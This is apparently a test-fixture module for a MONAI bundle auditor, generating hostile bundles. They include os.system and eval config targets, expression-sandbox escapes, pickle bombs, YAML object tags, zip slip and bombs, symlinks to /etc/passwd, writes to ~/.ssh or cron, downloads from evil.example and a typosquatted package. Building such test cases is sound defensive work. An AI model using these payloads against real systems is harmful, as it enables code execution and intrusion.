"""Hostile and broken bundles: each takes a good bundle and does to it what an advisory or an accident has done.

An attack that were executed would make the file CANARY appear. Each names the rule that has to report it, and where.
"""

from __future__ import annotations

import json
import os
import pickle
import shutil
import stat
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import yaml

INFERENCE = "configs/inference.json"


@dataclass(frozen=True)
class Attack:
    """What is done to a bundle, and how the audit has to call it.

    `make` takes the bundle's folder and the canary and returns what is given away: the folder, or a zip of it.
    """

    name: str
    code: str
    file: str
    make: Callable[[Path, Path], Path]


ATTACKS: list[Attack] = []


def attack(code: str, file: str) -> Callable[[Callable[[Path, Path], Path | None]], Any]:
    def register(make: Callable[[Path, Path], Path | None]) -> Any:
        ATTACKS.append(
            Attack(make.__name__.strip("_"), code, file, lambda bundle, canary: make(bundle, canary) or bundle)
        )
        return make

    return register


def edit(bundle: Path, file: str, **values: Any) -> None:
    """Set ids (with `#` for nesting) of a JSON file."""
    content = json.loads((bundle / file).read_text())
    for key, value in values.items():
        part = content
        *parents, last = key.split("#")
        for name in parents:
            part = part[int(name) if isinstance(part, list) else name]
        part[int(last) if isinstance(part, list) else last] = value
    (bundle / file).write_text(json.dumps(content, indent=2))


def touch(canary: Path) -> str:
    """Python that makes the canary appear."""
    return f"open({str(canary)!r}, 'w')"


class Bomb:
    """What a hostile pickle holds: unpickling it runs a command."""

    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self) -> Any:
        return os.system, (f"touch {self.canary}",)


def _text(name: str, code: str, file: str, text: str, *, reported: str = "") -> None:
    """An attack that writes a text file."""

    def make(bundle: Path, canary: Path) -> None:
        (bundle / file).write_text(text)

    make.__name__ = name
    attack(code, reported or file)(make)


def _edited(name: str, code: str, file: str, **values: Any) -> None:
    """An attack that sets ids of a JSON file."""

    def make(bundle: Path, canary: Path) -> None:
        edit(bundle, file, **values)

    make.__name__ = name
    attack(code, file)(make)


# --- configurations -----------------------------------------------------------------------------------------------


def _target(name: str, code: str, target: Any, **arguments: Any) -> None:
    def make(bundle: Path, canary: Path) -> None:
        filled = {
            key: value.format(canary=canary) if isinstance(value, str) else value for key, value in arguments.items()
        }
        edit(bundle, INFERENCE, network_def={"_target_": target, **filled})

    make.__name__ = name
    attack(code, INFERENCE)(make)


_target("target_os_system", "target", "os.system", command="touch {canary}")
_target("target_builtins_eval", "target", "builtins.eval", source="open('{canary}', 'w')")
_target("target_short_builtin", "target", "eval", source="open('{canary}', 'w')")
_target("target_short_monai_function", "target", "run_cmd", cmd_list=["touch", "canary"])
_target("target_through_an_allowed_module", "target", "monai.losses.dice.warnings.sys.modules", key="os")
_target("target_dunder_chain", "target", "torch.nn.Module.__init__.__globals__", key="os")
_target("target_torch_hub", "target", "torch.hub.load", repo_or_dir="evil/repo", model="x", trust_repo=True)
_target("target_torch_load", "target", "torch.load", f="models/model.pt", weights_only=False)
_target("target_torchscript_load", "target", "torch.jit.load", f="models/model.ts")
_target("target_download", "target", "monai.apps.utils.download_and_extract", url="https://evil.example/x.zip")
_target("target_dataset_download", "target", "monai.apps.datasets.DecathlonDataset", root_dir=".", download=True)
_target("target_pickle", "target", "monai.data.utils.pickle.loads", data="x")
_target("target_unknown_transform", "unknown-target", "monai.transforms.Lambdad", keys="image", func="@network")
_target("target_expression", "target", "$open")
_target("target_reference", "target", "@device")
_target("target_fullwidth", "target", "ｏｓ.system", command="touch {canary}")
_target("target_other_script", "unknown-target", "scripts.handlers.checkpoints.save_atomically", value=1, path="x")
_target("target_pretrained_network", "target-argument", "monai.networks.nets.EfficientNetBN", pretrained=True)
_target("target_fetches_code", "unknown-target", "monai.losses.PerceptualLoss", spatial_dims=2)
_target("target_imports_its_argument", "target-argument", "monai.inferers.PatchInferer", merger_cls="antigravity")
_target(
    "target_fetches_by_default", "unknown-target", "monai.networks.nets.EfficientNetBN", model_name="efficientnet-b0"
)
_target("target_fetches_an_address", "target-argument", "monai.networks.nets.HoVerNet", pretrained_url=" file:///x.pt")
_target(
    "target_starts_a_compiler", "target-argument", "SupervisedEvaluator", compile_kwargs={"options": {"cpp.cxx": ["x"]}}
)
_target("target_debug_mode", "mode", "monai.networks.nets.UNet", _mode_="debug")
_target("target_callable_mode", "mode", "monai.networks.nets.UNet", _mode_="callable")
_target("target_debug_key", "mode", "monai.networks.nets.UNet", _debug_=True)


def _expression(name: str, code: str, expression: Any, key: str = "device") -> None:
    def make(bundle: Path, canary: Path) -> None:
        text = expression.replace("CANARY", touch(canary)) if isinstance(expression, str) else expression
        edit(bundle, INFERENCE, **{key: text})

    make.__name__ = name
    attack(code, INFERENCE)(make)


_expression("expression_dunder_import", "expression", "$__import__('os').system('true') or CANARY")
_expression("expression_open", "expression", "$CANARY")
_expression("expression_through_torch", "expression", "$torch.os.system('true') or CANARY")
_expression("expression_through_monai", "expression", "$monai.utils.module.sys.modules['os'].getcwd() and CANARY")
_expression("expression_subclasses", "expression", "$().__class__.__base__.__subclasses__() and CANARY")
_expression("expression_lambda", "expression", "$(lambda: CANARY)()")
_expression("expression_comprehension", "expression", "$[CANARY for _ in (1,)][0]")
_expression("expression_walrus", "expression", "$(x := CANARY)")
_expression("expression_f_string", "expression", '$f"{CANARY}"')
_expression("expression_fullwidth", "expression", "$ｏｐｅｎ('x', 'w') or CANARY")
_expression(
    "expression_around_a_known_one", "expression", "$(os.path.join(@models_dir, 'model.pt'), CANARY)[0]", "ckpt_path"
)
_expression(
    "expression_known_one_other_folder", "expression", "$os.path.join(@bundle_root, '..', 'model.pt')", "ckpt_path"
)
_expression("expression_two_statements", "expression", "$torch.device('cpu')\nCANARY")
_expression("expression_disabled", "expression", "$CANARY", "handlers#1#_disabled_")
_expression("expression_required", "expression", "$CANARY", "dataset#_requires_")
_expression("expression_in_run", "expression", "$CANARY", "run#0")
_expression("import_subprocess", "import", "$import subprocess", "x")
_expression("import_from", "import", "$from os import system", "x")
_expression("import_renamed", "import", "$import antigravity as os", "x")
_expression("import_then_more", "import", "$import os; CANARY", "x")
_expression("macro_absolute", "macro", "%/elsewhere/evil.json#run", "run")
_expression("macro_climbing", "macro", "%../../evil.yaml::run", "run")
_expression("expression_at_another_place", "expression-place", "$@evaluator.run()", "device")
_expression("place_of_modules", "place", "models/model.pt", "bundle_root")
_expression("place_of_modules_as_a_list", "place", ["models/model.pt"], "bundle_root")
_expression("place_of_modules_by_reference", "place", "@datalist", "bundle_root")
_expression("place_of_weights", "place", "$os.path.join(@bundle_root, 'configs', 'datalist.json')", "ckpt_path")
_expression("place_of_output_is_relative", "place", ".ssh", "output_dir")
_expression("place_of_output_is_the_data", "place", "@dataset_dir", "output_dir")
_expression("place_of_scripts", "place", "$[@bundle_root]", "dataset#_requires_")
_expression("path_absolute_output", "path", "/etc/cron.d", "output_dir")
_expression("path_climbing_work_folder", "path", "../../.ssh", "work_dir")
_expression("path_home", "path", "~/.ssh", "output_dir")
_expression("path_url", "url", "https://evil.example/model.pt", "ckpt_path")


@attack("place", INFERENCE)
def reference_ends_a_string(bundle: Path, canary: Path) -> None:
    # MONAI writes __local_refs['f'] in place of @f, inside of strings too: what follows is code, in an f-string
    text = f"'@f{{{touch(canary)}}}'".replace("'w'", '"w"').replace(f"'{canary}'", f'"{canary}"')
    hostile = f"$os.path.normpath(os.path.join(@bundle_root, {text}))"
    edit(bundle, INFERENCE, f="x", dataset_dir=hostile)


@attack("expression", INFERENCE)
def reference_ends_a_string_elsewhere(bundle: Path, canary: Path) -> None:
    text = f"'@f{{{touch(canary)}}}'".replace("'w'", '"w"').replace(f"'{canary}'", f'"{canary}"')
    edit(bundle, INFERENCE, f="x", x=f"$os.path.normpath(os.path.join(@bundle_root, {text}))")


@attack("target", INFERENCE)
def target_by_a_composite_key(bundle: Path, canary: Path) -> None:
    _put(bundle, **{"network_def#_target_": "os.system", "network_def#command": f"touch {canary}"})


@attack("target", INFERENCE)
def target_by_a_composite_key_of_colons(bundle: Path, canary: Path) -> None:
    _put(bundle, **{"network_def::_target_": "os.system", "network_def::command": f"touch {canary}"})


@attack("target", INFERENCE)
def target_merged_in(bundle: Path, canary: Path) -> None:
    _put(bundle, **{"+network_def": {"_target_": "os.system", "command": f"touch {canary}"}})


def _put(bundle: Path, **values: Any) -> None:
    """Further keys, as they are; the network is left to them."""
    content = {**json.loads((bundle / INFERENCE).read_text()), "network_def": {}}
    (bundle / INFERENCE).write_text(json.dumps({**content, **values}))


@attack("place", "configs/evaluate.json")
def results_written_elsewhere(bundle: Path, canary: Path) -> None:
    del canary
    content = json.loads((bundle / "configs/evaluate.json").read_text())
    scored = next(handler for handler in content["validate#handlers"] if "output_path" in handler)
    scored["output_path"] = "$os.path.normpath(os.path.join(@bundle_root, '../../.bashrc'))"
    (bundle / "configs/evaluate.json").write_text(json.dumps(content))


@attack("place", "configs/train.yaml")
def place_by_an_alias(bundle: Path, canary: Path) -> None:
    # YAML writes a list that stands twice once; the first place is harmless
    content = json.loads((bundle / "configs/train.json").read_text())
    shared = [str(canary.name)]
    content["checkpoints"]["best_paths"] = shared
    (bundle / "configs/train.json").unlink()
    text = yaml.safe_dump({**content, "x": shared}, sort_keys=False)
    assert "*id001" in text
    (bundle / "configs/train.yaml").write_text(text)


@attack("target", INFERENCE)
def target_behind_many_composite_keys(bundle: Path, canary: Path) -> None:
    many = {f"network_def#x{index}#y": 1 for index in range(50)}
    _put(bundle, **many, **{"network_def#_target_": "os.system", "network_def#command": f"touch {canary}"})


@attack("path", INFERENCE)
def folder_of_cases_under_another_name(bundle: Path, canary: Path) -> None:
    edit(bundle, INFERENCE, x={"dataset_dir": str(canary)}, output_dir="@x#dataset_dir")


@attack("zip-names", "Configs/inference.json")
def configuration_in_other_letters(bundle: Path, canary: Path) -> None:
    del canary
    (bundle / "Configs").mkdir()
    (bundle / INFERENCE).rename(bundle / "Configs/inference.json")


_edited(
    "network_of_the_plan",
    "unknown-target",
    "configs/plan.json",
    **{"decisions#network#value": "monai.networks.nets.HoVerNet"},
)


_edited(
    "argument_of_the_plan",
    "target-argument",
    "configs/plan.json",
    **{"network_arguments#pretrained_url": "http://127.0.0.1:9/x.pt"},
)


@attack("archive-member", "models/model.pt")
def modules_among_the_weights(bundle: Path, canary: Path) -> None:
    import torch

    (bundle / "models").mkdir(exist_ok=True)
    torch.save({"x": torch.zeros(2)}, bundle / "models/model.pt")
    with zipfile.ZipFile(bundle / "models/model.pt", "a") as archive:
        archive.writestr("scripts/__init__.py", touch(canary))


_edited("reader_is_imported", "target-argument", INFERENCE, **{"deterministic_transforms#0#reader": "subprocess.Popen"})


@attack("target", INFERENCE)
def escaped_letters(bundle: Path, canary: Path) -> None:
    text = (bundle / INFERENCE).read_text()
    hostile = r'"x": {"\u005ftarget\u005f": "\u006fs.system", "command": "touch CANARY"},'.replace(
        "CANARY", str(canary)
    )
    (bundle / INFERENCE).write_text(text.replace("{", "{" + hostile, 1))


@attack("duplicate-key", INFERENCE)
def key_twice(bundle: Path, canary: Path) -> None:
    text = (bundle / INFERENCE).read_text()
    (bundle / INFERENCE).write_text(text.replace("{", '{"run": ["$' + touch(canary) + '"],', 1))


_edited("import_in_metadata", "import", "configs/metadata.json", description="$import antigravity")


@attack("spatial-shape", "configs/metadata.json")
def evaluated_shape(bundle: Path, canary: Path) -> None:
    key = "network_data_format#inputs#image#spatial_shape"
    edit(bundle, "configs/metadata.json", **{key: [touch(canary), 16, 16]})


@attack("spatial-shape", "configs/metadata.json")
def shape_that_never_ends(bundle: Path, canary: Path) -> None:
    del canary
    key = "network_data_format#inputs#image#spatial_shape"
    edit(bundle, "configs/metadata.json", **{key: ["9**9**9**9", 16, 16]})


_edited(
    "files_of_any_kind",
    "target-argument",
    INFERENCE,
    **{"deterministic_transforms#0": {"_target_": "LoadImaged", "keys": ["image"]}},
)


_edited("pickled_arrays", "target-argument", INFERENCE, **{"dataset#allow_pickle": True})


_edited(
    "option_as_requirement",
    "requirement",
    "configs/metadata.json",
    required_packages_version={"--index-url": "https://evil.example"},
)


_edited("lookalike_requirement", "requirement", "configs/metadata.json", required_packages_version={"nibabe1": "5.4.2"})


_edited(
    "climbing_case_id",
    "case-id",
    "configs/datalist.json",
    testing=[{"id": "../../.bashrc", "image": ["a.nii.gz", "b.nii.gz"]}],
)


_text("deep_json", "config-size", INFERENCE, "[" * 100_000 + "]" * 100_000)


@attack("config-size", "configs/datalist.json")
def huge_json(bundle: Path, canary: Path) -> None:
    del canary
    with (bundle / "configs/datalist.json").open("r+b") as stream:
        stream.truncate(80 << 20)


@attack("config-unreadable", INFERENCE)
def cut_json(bundle: Path, canary: Path) -> None:
    del canary
    text = (bundle / INFERENCE).read_text()
    (bundle / INFERENCE).write_text(text[: len(text) // 2])


@attack("yaml-tag", "configs/inference.yaml")
def yaml_python_object(bundle: Path, canary: Path) -> None:
    (bundle / "configs/inference.yaml").write_text(f"x: !!python/object/apply:os.system ['touch {canary}']\n")


@attack("config-size", "configs/inference.yaml")
def yaml_laughs(bundle: Path, canary: Path) -> None:
    del canary
    rows = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    rows += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]" for i in range(1, 12)]
    (bundle / "configs/inference.yaml").write_text("\n".join(rows))


_text("yaml_key_twice", "duplicate-key", "configs/inference.yaml", "run: 1\nrun: 2\n")


_text("yaml_circle", "config-size", "configs/inference.yaml", "a: &a\n  b: *a\n")


# --- logging.conf -------------------------------------------------------------------------------------------------


def _logging(name: str, old: str, new: str) -> None:
    def make(bundle: Path, canary: Path) -> None:
        path = bundle / "configs/logging.conf"
        text = path.read_text()
        assert old in text
        path.write_text(text.replace(old, new.replace("CANARY", touch(canary)).replace("%", "%%")))

    make.__name__ = name
    attack("logging", "configs/logging.conf")(make)


@attack("logging", "configs/logging.conf")
def logging_interpolation(bundle: Path, canary: Path) -> None:
    # fileConfig puts the one value into the other before it evaluates it
    path = bundle / "configs/logging.conf"
    hostile = f"args=('%(evil)s',)\nevil=', {touch(canary)}) #"
    path.write_text(path.read_text().replace("args=(sys.stdout,)", hostile))


_logging("logging_class", "class=StreamHandler", "class=CANARY")
_logging("logging_class_is_eval", "class=StreamHandler", "class=eval")
_logging("logging_arguments", "args=(sys.stdout,)", "args=(CANARY,)")
_logging("logging_keyword_arguments", "args=(sys.stdout,)", "args=()\nkwargs={'stream': CANARY}")
_logging("logging_to_a_file", "class=StreamHandler", "class=FileHandler")
_logging("logging_to_a_server", "class=StreamHandler", "class=handlers.HTTPHandler")
_logging("logging_other_key", "args=(sys.stdout,)", "args=(sys.stdout,)\nencoding=CANARY")
_logging("logging_default_section", "[loggers]", "[DEFAULT]\nkwargs=CANARY\n[loggers]")


# --- weights and arrays -------------------------------------------------------------------------------------------


@attack("pickle", "models/model.pt")
def pickle_in_torch_archive(bundle: Path, canary: Path) -> None:
    import torch

    torch.save({"weight": torch.zeros(1), "extra": Bomb(canary)}, bundle / "models/model.pt")


@attack("pickle", "models/model.pt")
def bare_pickle(bundle: Path, canary: Path) -> None:
    (bundle / "models/model.pt").write_bytes(pickle.dumps(Bomb(canary), protocol=2))


@attack("pickle", "models/model.pt")
def bare_pickle_with_stack_global(bundle: Path, canary: Path) -> None:
    (bundle / "models/model.pt").write_bytes(pickle.dumps(Bomb(canary), protocol=4))


@attack("pickle", "models/model.pt")
def pickle_hides_its_name(bundle: Path, canary: Path) -> None:
    # the strings of an innocent name are pushed and dropped again before the name is taken from the stack
    content = (
        b"\x80\x04\x8c\x05posix\x8c\x06system\x8c\x0bcollections0\x8c\x0bOrderedDict0\x93"
        + b"\x8c"
        + bytes([len(f"touch {canary}")])
        + f"touch {canary}".encode()
        + b"\x85R."
    )
    (bundle / "models/model.pt").write_bytes(content)


@attack("pickle", "models/notes.pkl")
def loose_pickle(bundle: Path, canary: Path) -> None:
    (bundle / "models/notes.pkl").write_bytes(pickle.dumps(Bomb(canary)))


@attack("pickle", "docs/picture.png")
def pickle_called_picture(bundle: Path, canary: Path) -> None:
    (bundle / "docs/picture.png").write_bytes(pickle.dumps(Bomb(canary)))


@attack("pickle", "models/arch.npy")
def object_array(bundle: Path, canary: Path) -> None:
    np.save(bundle / "models/arch.npy", np.array([Bomb(canary)], dtype=object), allow_pickle=True)


@attack("pickle", "models/arch.npz/arr_0.npy")
def object_array_in_npz(bundle: Path, canary: Path) -> None:
    np.savez(bundle / "models/arch.npz", np.array([Bomb(canary)], dtype=object))


@attack("pickle-unknown", "models/model.pt")
def numpy_scalar_in_checkpoint(bundle: Path, canary: Path) -> None:
    import torch

    del canary
    torch.save({"weight": torch.zeros(1), "best": np.float64(0.5)}, bundle / "models/model.pt")


@attack("weights-broken", "models/model.pt")
def truncated_weights(bundle: Path, canary: Path) -> None:
    import torch

    del canary
    path = bundle / "models/model.pt"
    torch.save({"weight": torch.zeros(1000)}, path)
    path.write_bytes(path.read_bytes()[:2000])


_text(
    "text_as_weights",
    "weights-broken",
    "models/model.pt",
    "version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 1\n",
)


@attack("weights-broken", "models/model.safetensors")
def truncated_safetensors(bundle: Path, canary: Path) -> None:
    del canary
    header = json.dumps({"weight": {"dtype": "F32", "shape": [10], "data_offsets": [0, 40]}}).encode()
    (bundle / "models/model.safetensors").write_bytes(len(header).to_bytes(8, "little") + header + bytes(20))


def _torchscript(path: Path, code: str, name: str) -> None:
    # an archive as torch writes it, made by hand: its code and a data.pkl that names its class
    module = b"\x80\x02c__torch__.m\nNet\nq\x00)\x81}b."
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(f"{name}/data.pkl", module)
        archive.writestr(f"{name}/constants.pkl", pickle.dumps((), protocol=2))
        archive.writestr(f"{name}/code/__torch__/m.py", code)


@attack("torchscript", "models/model.pt")
def torchscript_as_weights(bundle: Path, canary: Path) -> None:
    del canary
    _torchscript(bundle / "models/model.pt", "class Net(Module):\n  def forward(self, x):\n    return x\n", "model")


@attack("torchscript", "models/model.ts")
def torchscript_reads_files(bundle: Path, canary: Path) -> None:
    code = f"class Net(Module):\n  def forward(self, x):\n    return torch.from_file('{canary}', True, 10)\n"
    _torchscript(bundle / "models/model.ts", code, "model")


@attack("pickle", "models/model.ts")
def torchscript_with_pickle(bundle: Path, canary: Path) -> None:
    path = bundle / "models/model.ts"
    _torchscript(path, "class Net(Module):\n  def forward(self, x):\n    return x\n", "model")
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("model/attributes.pkl", pickle.dumps(Bomb(canary), protocol=2))


@attack("path", "models/model.onnx")
def onnx_reads_elsewhere(bundle: Path, canary: Path) -> None:
    del canary
    value = b"../../../../etc/passwd"
    (bundle / "models/model.onnx").write_bytes(b"\x08\x0a\x0a\x08location\x12" + bytes([len(value)]) + value)


@attack("zip-bomb", "models/model.pt")
def bomb_in_weights(bundle: Path, canary: Path) -> None:
    del canary
    with zipfile.ZipFile(bundle / "models/model.pt", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("model/data.pkl", bytes(50 << 20))


# --- code ---------------------------------------------------------------------------------------------------------


def _file(name: str, code: str, path: str, content: str) -> None:
    def make(bundle: Path, canary: Path) -> None:
        (bundle / path).parent.mkdir(parents=True, exist_ok=True)
        (bundle / path).write_text(content.replace("CANARY", touch(canary)))

    make.__name__ = name
    attack(code, path)(make)


_file("shadowing_module", "shadowing", "torch.py", "CANARY\n")
_file("shadowing_package", "shadowing", "monai/__init__.py", "CANARY\n")
_file("shadowing_from_configs", "shadowing", "configs/__init__.py", "CANARY\n")
_file("scripts_init_with_code", "script-changed", "scripts/__init__.py", "CANARY\n")
_file("script_added", "script-added", "scripts/networks/mine.py", "import os\nCANARY\n")
_file("pytest_file", "shadowing", "conftest.py", "CANARY\n")
_file("path_file", "code", "evil.pth", "import os; CANARY\n")
_file("notebook", "code", "docs/demo.ipynb", "{}")
_file("makefile", "code", "Makefile", "all:\n\ttrue\n")
_file("interpreter_line", "executable", "docs/run", "#!/bin/sh\ntrue\n")
_file("elf_program", "executable", "models/tool", "\x7fELF\x02")
_file("module_for_python_to_find", "code", "scripts/x.pyw", "CANARY\n")


@attack("script-changed", "scripts/transforms/save.py")
def script_with_one_other_byte(bundle: Path, canary: Path) -> None:
    del canary
    path = bundle / "scripts/transforms/save.py"
    content = path.read_bytes()
    path.write_bytes(content[:-1] + b" \n")


@attack("script-missing", "scripts/transforms/save.py")
def script_gone(bundle: Path, canary: Path) -> None:
    del canary
    (bundle / "scripts/transforms/save.py").unlink()


@attack("bytecode", "scripts/save.pyc")
def compiled_file(bundle: Path, canary: Path) -> None:
    import py_compile

    source = bundle / "hostile.txt"
    source.write_text(touch(canary))
    py_compile.compile(str(source), cfile=str(bundle / "scripts/save.pyc"), doraise=True)
    source.unlink()


@attack("link", "models/model.pt")
def link_out_of_the_folder(bundle: Path, canary: Path) -> None:
    del canary
    (bundle / "models/model.pt").symlink_to("/etc/passwd")


@attack("link", "scripts")
def scripts_are_a_link(bundle: Path, canary: Path) -> None:
    del canary
    shutil.move(bundle / "scripts", bundle.parent / "elsewhere")
    (bundle / "scripts").symlink_to(bundle.parent / "elsewhere", target_is_directory=True)


def in_a_repository(bundle: Path) -> tuple[Path, Path]:
    """The bundle moved to `bundles/` of a repository, its scripts a link to the runtime there."""
    repository = bundle.parent / "repository"
    moved = repository / "bundles" / bundle.name
    runtime = repository / "mist_bundle/runtime"
    moved.parent.mkdir(parents=True)
    runtime.parent.mkdir()
    shutil.move(bundle, moved)
    shutil.move(moved / "scripts", runtime)
    (moved / "scripts").symlink_to("../../mist_bundle/runtime", target_is_directory=True)
    return moved, runtime


def _linked(name: str, code: str, file: str, change: Callable[[Path, Path, Path], object]) -> None:
    """An attack through the one link that is accepted: `change` takes the bundle, the linked runtime, the canary."""

    def make(bundle: Path, canary: Path) -> Path:
        moved, runtime = in_a_repository(bundle)
        change(moved, runtime, canary)
        return moved

    make.__name__ = name
    attack(code, file)(make)


def _append(path: Path, text: str) -> None:
    path.write_text(path.read_text() + text)


def _relink(bundle: Path, target: str | Path) -> None:
    (bundle / "scripts").unlink()
    (bundle / "scripts").symlink_to(target, target_is_directory=True)


def _package_elsewhere(runtime: Path) -> None:
    package = runtime.parent
    package.rename(package.parent.parent / "elsewhere")
    package.symlink_to("../elsewhere", target_is_directory=True)


_linked(
    "linked_script_changed",
    "script-changed",
    "scripts/transforms/save.py",
    lambda _, runtime, canary: _append(runtime / "transforms/save.py", touch(canary)),
)
_linked(
    "linked_script_added",
    "script-added",
    "scripts/more.py",
    lambda _, runtime, canary: (runtime / "more.py").write_text(touch(canary)),
)
_linked(
    "linked_library",
    "code",
    "scripts/numerics.so",
    lambda _, runtime, __: (runtime / "numerics.so").write_bytes(b"\x7fELF"),
)
_linked(
    "link_in_what_is_linked",
    "link",
    "scripts/losses/own.py",
    lambda _, runtime, __: (runtime / "losses/own.py").symlink_to("/etc/passwd"),
)
_linked("linked_by_absolute_path", "link", "scripts", lambda bundle, runtime, _: _relink(bundle, runtime.absolute()))
_linked("linked_to_nothing", "link", "scripts", lambda _, runtime, __: shutil.rmtree(runtime))
_linked("linked_past_the_repository", "link", "scripts", lambda _, runtime, __: _package_elsewhere(runtime))
_linked(
    "linked_by_another_path",
    "link",
    "scripts",
    lambda bundle, _, __: _relink(bundle, "../../mist_bundle/../mist_bundle/runtime"),
)
_linked(
    "manifest_of_links_over_plain_scripts",
    "script-changed",
    "scripts/transforms/save.py",
    lambda bundle, runtime, canary: _unlink_and_change(bundle, runtime, canary),
)


def _unlink_and_change(bundle: Path, runtime: Path, canary: Path) -> None:
    from mist_bundle.bundle.manifest import write_manifest

    write_manifest(bundle)
    (bundle / "scripts").unlink()
    shutil.move(runtime, bundle / "scripts")
    _append(bundle / "scripts/transforms/save.py", touch(canary))


@attack("special-file", "models/pipe")
def named_pipe(bundle: Path, canary: Path) -> None:
    del canary
    os.mkfifo(bundle / "models/pipe")


# --- downloads, manifest ------------------------------------------------------------------------------------------


def _large(name: str, code: str, **entry: str) -> None:
    given = {"path": "models/model.pt", "url": "https://example.org/model.pt", "hash_val": "0" * 64, **entry}

    def make(bundle: Path, canary: Path) -> None:
        del canary
        rows = "\n".join(f"    {key}: {value!r}" for key, value in given.items())
        (bundle / "large_files.yml").write_text(f"large_files:\n  -\n{rows}\n")

    make.__name__ = name
    attack(code, "large_files.yml")(make)


_large("download_climbs_out", "large-files", path="../../.bashrc")
_large("download_to_absolute_path", "large-files", path="/etc/cron.d/x")
_large("download_over_scripts", "large-files", path="scripts/__init__.py")
_large("download_without_encryption", "url", url="http://example.org/model.pt")
_large("download_of_a_local_file", "url", url="file:///etc/passwd")
_large("download_without_hash", "large-files-hash", hash_val="")


@attack("manifest-mismatch", "models/model.pt")
def weights_exchanged(bundle: Path, canary: Path) -> None:
    import torch

    from mist_bundle.bundle.manifest import write_manifest

    del canary
    torch.save({"weight": torch.zeros(1)}, bundle / "models/model.pt")
    write_manifest(bundle)
    torch.save({"weight": torch.ones(1)}, bundle / "models/model.pt")


@attack("file-missing", "LICENSE")
def licence_gone(bundle: Path, canary: Path) -> None:
    del canary
    (bundle / "LICENSE").unlink()


_text("manifest_without_hashes", "manifest-broken", "MANIFEST.json", '{"files": ["LICENSE"]}')


# --- archives -----------------------------------------------------------------------------------------------------


def zip_bundle(bundle: Path, extra: Callable[[zipfile.ZipFile], None] | None = None) -> Path:
    """A zip of a bundle as `pack` makes it: one folder at its top; and whatever `extra` adds."""
    target = bundle.parent / f"{bundle.name}.zip"
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for path in sorted(bundle.rglob("*")):
            if path.is_file():
                archive.write(path, f"{bundle.name}/{path.relative_to(bundle).as_posix()}")
        if extra is not None:
            extra(archive)
    return target


def _member(name: str, code: str, member: str, mode: int = 0o644, content: str = "x") -> None:
    def make(bundle: Path, canary: Path) -> Path:
        del canary

        def add(archive: zipfile.ZipFile) -> None:
            info = zipfile.ZipInfo(member.replace("BUNDLE", bundle.name))
            info.external_attr = (mode if mode > 0o7777 else stat.S_IFREG | mode) << 16
            archive.writestr(info, content)

        return zip_bundle(bundle, add)

    make.__name__ = name
    attack(code, "*.zip")(make)


_member("zip_slip", "zip-path", "BUNDLE/models/../../../evil.py")
_member("zip_slip_backslash", "zip-path", "BUNDLE\\..\\..\\evil.py")
_member("zip_absolute", "zip-path", "/etc/cron.d/evil")
_member("zip_drive", "zip-path", "C:/evil.py")
_member("zip_link", "link", "BUNDLE/models/model.pt", stat.S_IFLNK | 0o777, "/etc/passwd")
_member("zip_device", "special-file", "BUNDLE/models/zero", stat.S_IFCHR | 0o666)
_member("zip_case_collision", "zip-names", "BUNDLE/Scripts/__init__.py")
_member("zip_two_tops", "zip-layout", "monai/__init__.py")


@attack("zip-names", "*.zip")
def zip_name_twice(bundle: Path, canary: Path) -> Path:
    import warnings

    def add(archive: zipfile.ZipFile) -> None:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            archive.writestr(f"{bundle.name}/configs/inference.json", '{"run": ["$' + touch(canary) + '"]}')

    return zip_bundle(bundle, add)


@attack("zip-bomb", "*.zip")
def zip_bomb(bundle: Path, canary: Path) -> Path:
    del canary
    return zip_bundle(bundle, lambda archive: archive.writestr(f"{bundle.name}/models/zeros", bytes(64 << 20)))


@attack("zip-damaged", "*.zip")
def zip_with_wrong_bytes(bundle: Path, canary: Path) -> Path:
    del canary
    target = zip_bundle(bundle)
    with zipfile.ZipFile(target) as archive:
        info = archive.getinfo(f"{bundle.name}/configs/inference.json")
    content = bytearray(target.read_bytes())
    start = info.header_offset + 30 + len(info.filename) + 10
    content[start : start + 20] = bytes(20)
    target.write_bytes(content)
    return target


@attack("zip-damaged", "*.zip")
def zip_encrypted(bundle: Path, canary: Path) -> Path:
    del canary
    target = zip_bundle(bundle)
    content = target.read_bytes()
    # the flag of the first entry of the central directory
    position = content.index(b"PK\x01\x02") + 8
    target.write_bytes(content[:position] + b"\x01" + content[position + 1 :])
    return target


@attack("target", INFERENCE)
def zip_with_hostile_config(bundle: Path, canary: Path) -> Path:
    edit(bundle, INFERENCE, network_def={"_target_": "os.system", "command": f"touch {canary}"})
    return zip_bundle(bundle)


@attack("pickle", "models/model.pt")
def zip_with_hostile_weights(bundle: Path, canary: Path) -> Path:
    pickle_in_torch_archive(bundle, canary)
    return zip_bundle(bundle)
